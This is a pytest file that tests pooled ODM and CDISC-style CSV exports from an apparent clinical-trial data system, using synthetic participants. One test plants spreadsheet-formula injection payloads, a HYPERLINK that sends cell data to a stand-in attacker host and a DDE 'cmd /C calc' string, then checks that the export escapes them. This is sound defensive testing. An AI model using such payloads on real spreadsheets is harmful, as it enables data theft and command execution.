"""Pooled exports from data the centre rebuilt: ODM 1.3.2 valid with every OID defined (audit
records and signatures included), and the CDISC-style CSV datasets with the CONSORT count."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from msc_desktop.central.export import export_pooled
from msc_desktop.central.service import Center
from msc_desktop.store.audit_chain import GENESIS_HASH
from msc_desktop.sync.bundle import BundleHeader, seal_bundle
from msc_desktop.sync.keys import KeyPair
from tests.accounts import CENTRE_PASSPHRASE

from .chains import record_rows
from .odmcheck import assert_valid_odm

NS = {"o": "http://www.cdisc.org/ns/odm/v1.3"}


def participant(pid: str, subject: str, status: str, arm: str | None) -> list[
        tuple[str, str, dict[str, str | None]]]:
    records: list[tuple[str, str, dict[str, str | None]]] = [
        ("participant", pid, {"id": pid, "subject_id": subject, "sex": "F",
                              "date_of_birth": "1970-01-02", "status": status, "arm": arm,
                              "stratum": "B" if arm else None,
                              "randomized_at": "2026-11-20T08:00:00.000000Z" if arm else None,
                              "day0": "2026-11-20" if arm else None}),
        ("consent", f"c{pid}", {"id": f"c{pid}", "participant_id": pid,
                                "consent_date": "2026-11-18", "written_consent": "true"}),
        ("visit", f"v{pid}", {"id": f"v{pid}", "participant_id": pid, "visit_code": "SCR",
                              "visit_date": "2026-11-19"}),
        ("item_value", f"i1{pid}", {"id": f"i1{pid}", "visit_id": f"v{pid}", "item": "bilirubin",
                                    "value": "51.3", "unit": "umol/L", "std_value": "3.0"}),
        ("item_value", f"i2{pid}", {"id": f"i2{pid}", "visit_id": f"v{pid}", "item": "weight",
                                    "value": "62.5", "unit": "kg", "std_value": "62.5"}),
        ("item_value", f"i3{pid}", {"id": f"i3{pid}", "visit_id": f"v{pid}",
                                    "item": "ex_malignancy",
                                    "value": "Y" if status == "screen failed" else "N",
                                    "unit": None, "std_value": None}),
        ("signature", f"s{pid}", {"id": f"s{pid}", "participant_id": pid,
                                  "table_name": "visit", "record_id": f"v{pid}",
                                  "meaning": "eligibility confirmed", "user_id": "doctor",
                                  "signed_at": "2026-11-19T12:00:00.000000Z",
                                  "voided_at": None}),
    ]
    if arm == "MSC":
        records.append(("infusion", f"x{pid}", {
            "id": f"x{pid}", "participant_id": pid, "visit_code": "W0", "total_cells": "62500000",
            "product_lot": "LOT-7", "volume_infused_ml": "50.0", "status": "completed",
            "started_at": "2026-11-20T09:00:00.000000Z"}))
        records.append(("adverse_event", f"a{pid}", {
            "id": f"a{pid}", "participant_id": pid, "ae_number": "1", "term": "Fever",
            "onset_date": "2026-11-21", "grade": "2", "serious": "true",
            "seriousness": "hospitalisation", "relationship_to_msc": "possible"}))
    if status == "completed":
        records.append(("disposition", f"d{pid}", {
            "id": f"d{pid}", "participant_id": pid, "decod": "COMPLETED",
            "disposition_date": "2027-10-01", "details": None}))
    return records


@pytest.fixture
def center(tmp_path: Path) -> Iterator[Center]:
    center = Center.init(tmp_path / "center", passphrase=CENTRE_PASSPHRASE)
    site_keys = {site: KeyPair.generate("site", site) for site in ("01", "02")}
    plan = {
        "01": [("p1", "01-0001", "completed", "MSC"), ("p2", "01-0002", "screen failed", None)],
        "02": [("p3", "02-0001", "randomized", "CONTROL"), ("p4", "02-0002", "randomized",
                                                           "MSC")],
    }
    for site_id, keys in site_keys.items():
        center.register_site(site_id, keys.public_document())
        records = [record for args in plan[site_id] for record in participant(*args)]
        records.append(("user_account", "doctor", {"user_id": "doctor",
                                                   "full_name": "Ivan Investigator"}))
        rows: list[dict[str, Any]] = record_rows(records)
        header = BundleHeader(site_id, "dev", 1, rows[-1]["seq"], GENESIS_HASH,
                              rows[-1]["hash"], "2026-11-29T10:00:00Z", center.fingerprint,
                              keys.public().fingerprint)
        data = seal_bundle(header, rows, b"", keys, center.keys.public())
        assert center.import_bundle(data, "b").status == "accepted"
    yield center
    center.close()


def test_pooled_odm_is_valid_with_audit_records_and_signatures(center: Center,
                                                               tmp_path: Path) -> None:
    (path,) = export_pooled(center, "odm", tmp_path / "out")
    xml = path.read_bytes()
    assert_valid_odm(xml)
    document = etree.fromstring(xml)
    assert document.get("FileType") == "Snapshot"
    assert document.xpath("//o:SubjectData/@SubjectKey", namespaces=NS) == [
        "01-0001", "01-0002", "02-0001", "02-0002"]
    assert document.xpath("//o:SubjectData[@SubjectKey='02-0001']/o:SiteRef/@LocationOID",
                          namespaces=NS) == ["LOC.02"]
    signed = document.xpath("//o:ItemGroupData[o:Signature]/@ItemGroupOID", namespaces=NS)
    assert signed == ["IG.VISIT"] * 4
    assert document.xpath("//o:SignatureDef/o:Meaning/text()", namespaces=NS) == [
        "eligibility confirmed"]
    audit = document.xpath("//o:ItemData[@ItemOID='IT.ITEM_VALUE.VALUE'][@Value='51.3']"
                           "/o:AuditRecord/o:UserRef/@UserOID", namespaces=NS)
    assert audit == ["USR.01.NURSE"] * 2 + ["USR.02.NURSE"] * 2
    assert document.xpath("//o:User[@OID='USR.01.DOCTOR']/o:FullName/text()",
                          namespaces=NS) == ["Ivan Investigator"]
    assert b"Wang" not in xml


def read(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


def test_csv_datasets_and_consort(center: Center, tmp_path: Path) -> None:
    paths = {path.stem: path for path in export_pooled(center, "csv", tmp_path / "out")}
    assert list(paths) == ["DM", "DS", "IE", "LB", "VS", "XC", "EX", "AE", "CONSORT"]
    dm = read(paths["DM"])
    assert [(r["USUBJID"], r["SITEID"], r["ARMCD"], r["RFICDTC"]) for r in dm] == [
        ("XJMSC0001-01-0001", "01", "MSC", "2026-11-18"),
        ("XJMSC0001-01-0002", "01", "", "2026-11-18"),
        ("XJMSC0001-02-0001", "02", "CONTROL", "2026-11-18"),
        ("XJMSC0001-02-0002", "02", "MSC", "2026-11-18")]
    lb = read(paths["LB"])
    assert {(r["USUBJID"][-7:], r["LBTESTCD"], r["LBORRES"], r["LBORRESU"], r["LBSTRESN"],
             r["VISIT"]) for r in lb} == {
        (subject, "BILI", "51.3", "umol/L", "3.0", "SCR")
        for subject in ("01-0001", "01-0002", "02-0001", "02-0002")}
    vs = read(paths["VS"])
    assert {(r["VSTESTCD"], r["VSORRES"]) for r in vs} == {("WEIGHT", "62.5")}
    ie = read(paths["IE"])
    assert [(r["USUBJID"], r["IECAT"], r["IEORRES"]) for r in ie] == [
        ("XJMSC0001-01-0002", "EXCLUSION", "Y")]
    ex = read(paths["EX"])
    assert [(r["USUBJID"], r["EXDOSE"], r["EXLOT"], r["VISIT"]) for r in ex] == [
        ("XJMSC0001-01-0001", "62500000", "LOT-7", "W0"),
        ("XJMSC0001-02-0002", "62500000", "LOT-7", "W0")]
    ae = read(paths["AE"])
    assert [(r["AETERM"], r["AESER"], r["AETOXGR"]) for r in ae] == [("Fever", "Y", "2")] * 2
    ds = read(paths["DS"])
    assert [r["DSDECOD"] for r in ds if r["USUBJID"].endswith("01-0001")] == [
        "INFORMED CONSENT OBTAINED", "RANDOMIZED", "COMPLETED"]
    consort = {r["stage"]: int(r["count"]) for r in read(paths["CONSORT"])}
    assert consort == {"screened": 4, "screen_failed": 1, "randomized_MSC": 2,
                       "randomized_CONTROL": 1, "infused": 2, "completed": 1}


def test_deleted_records_leave_the_export(center: Center, tmp_path: Path) -> None:
    keys = KeyPair.generate("site", "03")
    center.register_site("03", keys.public_document())
    rows = record_rows(participant("p9", "03-0001", "registered", None))
    deletion = record_rows([("item_value", "i1p9", {"value": None})], start_seq=len(rows) + 1,
                           prev_hash=rows[-1]["hash"], action="delete", reason="wrong patient")
    rows += deletion
    header = BundleHeader("03", "dev", 1, rows[-1]["seq"], GENESIS_HASH, rows[-1]["hash"],
                          "2026-11-29T10:00:00Z", center.fingerprint, keys.public().fingerprint)
    assert center.import_bundle(seal_bundle(header, rows, b"", keys, center.keys.public()),
                                "b").status == "accepted"
    paths = {path.stem: path for path in export_pooled(center, "csv", tmp_path / "out")}
    assert not [r for r in read(paths["LB"]) if r["USUBJID"].endswith("03-0001")]


def test_csv_cells_never_become_spreadsheet_formulas(center: Center, tmp_path: Path) -> None:
    """Issue 15 item 8: an AE term typed at a site became a live formula in the centre's CSV."""
    keys = KeyPair.generate("site", "03")
    center.register_site("03", keys.public_document())
    records = participant("p9", "03-0001", "randomized", "MSC")
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Fever")'
    for table, _record_id, values in records:
        if table == "adverse_event":
            values["term"] = attack
        if table == "item_value" and values["item"] == "bilirubin":
            values["value"] = "-1.5"
        if table == "infusion":
            values["product_lot"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows: list[dict[str, Any]] = record_rows(records)
    header = BundleHeader("03", "dev", 1, rows[-1]["seq"], GENESIS_HASH, rows[-1]["hash"],
                          "2026-11-29T10:00:00Z", center.fingerprint, keys.public().fingerprint)
    assert center.import_bundle(seal_bundle(header, rows, b"", keys, center.keys.public()),
                                "b").status == "accepted"
    paths = {path.stem: path for path in export_pooled(center, "csv", tmp_path / "out")}
    terms = [r["AETERM"] for r in read(paths["AE"]) if r["USUBJID"].endswith("03-0001")]
    assert terms == ["'" + attack]
    lots = [r["EXLOT"] for r in read(paths["EX"]) if r["USUBJID"].endswith("03-0001")]
    assert lots == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
    results = [r["LBORRES"] for r in read(paths["LB"]) if r["USUBJID"].endswith("03-0001")]
    assert results == ["-1.5"]
    text = "".join(path.read_text(encoding="utf-8") for path in paths.values())
    assert not any(line.startswith(("=", "+", "@")) or ",=" in line or ",@" in line
                   for line in text.splitlines())


def _items(pid: str, visit: str, values: dict[str, tuple[str, str | None, str | None]]) -> list[
        tuple[str, str, dict[str, str | None]]]:
    return [("item_value", f"h{index}{pid}", {"id": f"h{index}{pid}", "visit_id": visit,
                                             "item": name, "value": value, "unit": unit,
                                             "std_value": std})
            for index, (name, (value, unit, std)) in enumerate(values.items())]


def test_hbv_and_cirrhosis_evidence_reach_lb_and_xc(center: Center, tmp_path: Path) -> None:
    """Issue 19 item 5: HBsAg (LB, dated by its test), HBV DNA (one LB row: the number when
    quantified, else the coded result) and the basis of the cirrhosis diagnosis with the liver
    stiffness (XC, dated by the examination), from the fields' CDISC annotations."""
    keys = KeyPair.generate("site", "03")
    center.register_site("03", keys.public_document())
    records = participant("p8", "03-0001", "randomized", "CONTROL")
    records += _items("p8", "vp8", {
        "hbsag": ("POSITIVE", None, None), "hbsag_date": ("2026-10-02", None, None),
        "hbv_dna_status": ("QUANTIFIED", None, None), "hbv_dna": ("23000", "IU/mL", "23000"),
        "hbv_dna_date": ("2026-11-03", None, None), "cirrhosis_method": ("ELASTOGRAPHY", None, None),
        "liver_stiffness": ("18.6", None, "18.6"), "cirrhosis_date": ("2026-09-15", None, None),
        "ascites": ("slight", None, None)})
    records += participant("p9", "03-0002", "randomized", "CONTROL")
    records += _items("p9", "vp9", {
        "hbsag": ("POSITIVE", None, None), "hbsag_date": ("2026-11-01", None, None),
        "hbv_dna_status": ("NOT_DETECTED", None, None), "hbv_dna_date": ("2026-11-04", None, None),
        "cirrhosis_method": ("BIOPSY", None, None), "cirrhosis_date": ("2025-06-30", None, None)})
    rows: list[dict[str, Any]] = record_rows(records)
    header = BundleHeader("03", "dev", 1, rows[-1]["seq"], GENESIS_HASH, rows[-1]["hash"],
                          "2026-11-29T10:00:00Z", center.fingerprint, keys.public().fingerprint)
    assert center.import_bundle(seal_bundle(header, rows, b"", keys, center.keys.public()),
                                "b").status == "accepted"
    paths = {path.stem: path for path in export_pooled(center, "csv", tmp_path / "out")}

    def findings(domain: str, subject: str) -> list[tuple[str, ...]]:
        return [(r[f"{domain}TESTCD"], r[f"{domain}TEST"], r[f"{domain}ORRES"],
                 r[f"{domain}ORRESU"], r[f"{domain}STRESN"], r[f"{domain}STRESU"],
                 r[f"{domain}DTC"])
                for r in read(paths[domain]) if r["USUBJID"] == f"XJMSC0001-{subject}"]

    assert findings("LB", "03-0001") == [
        ("BILI", "Total bilirubin", "51.3", "umol/L", "3.0", "mg/dL", "2026-11-19"),
        ("HBSAG", "HBsAg (hepatitis B surface antigen)", "POSITIVE", "", "", "", "2026-10-02"),
        ("HBVDNA", "HBV DNA", "23000", "IU/mL", "23000", "IU/mL", "2026-11-03")]
    assert findings("LB", "03-0002") == [
        ("BILI", "Total bilirubin", "51.3", "umol/L", "3.0", "mg/dL", "2026-11-19"),
        ("HBSAG", "HBsAg (hepatitis B surface antigen)", "POSITIVE", "", "", "", "2026-11-01"),
        ("HBVDNA", "HBV DNA", "NOT_DETECTED", "", "", "", "2026-11-04")]
    assert findings("XC", "03-0001") == [
        ("ASCITES", "Ascites", "slight", "", "", "", "2026-11-19"),
        ("CIRRDXM", "Basis of the cirrhosis diagnosis", "ELASTOGRAPHY", "", "", "", "2026-09-15"),
        ("LSTIFF", "Liver stiffness (transient elastography)", "18.6", "", "18.6", "kPa",
         "2026-09-15")]
    assert findings("XC", "03-0002") == [
        ("CIRRDXM", "Basis of the cirrhosis diagnosis", "BIOPSY", "", "", "", "2025-06-30")]
